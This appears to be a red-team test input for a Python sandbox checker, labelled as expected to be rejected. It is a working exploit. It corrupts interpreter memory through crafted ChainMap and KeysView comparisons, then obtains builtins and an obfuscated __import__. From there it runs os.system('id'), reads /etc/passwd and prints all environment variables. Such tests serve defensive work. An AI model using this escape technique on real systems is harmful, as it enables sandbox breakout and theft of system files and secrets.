# expect: reject memory
# line: 55
# why: round 101 (red team): ZD | ZE of two names bound to dict displays hashes and compares the keys of both (a hashable KeysView subclass whose == sizes a ChainMap); | & ^ - reach the items
import collections
import collections.abc

vl = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


def g():
    return 0


FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]


def wipe(x):
    vl.clear()
    return x


def fill(x):
    KEEP.append(bytearray(FAKE))
    return x


CA = collections.ChainMap(map(wipe, [1]))
CB = collections.ChainMap(map(fill, [1]))


class KV(collections.abc.KeysView):
    def __hash__(self):
        return 1


ZD = {KV(CA): 0}
ZE = {KV(CA): 0}
ZF = {KV(CB): 0}
ZG = {KV(CB): 0}


class V:
    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")

    def __eq__(self, o):
        return False

    def __lt__(self, o):
        n = ZD | ZE
        return NotImplemented


class W:
    def __eq__(self, o):
        return False

    def __gt__(self, o):
        n = ZF | ZG
        return o


vl.append(V())
w = W()
got = vl < [w]
bt = got[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
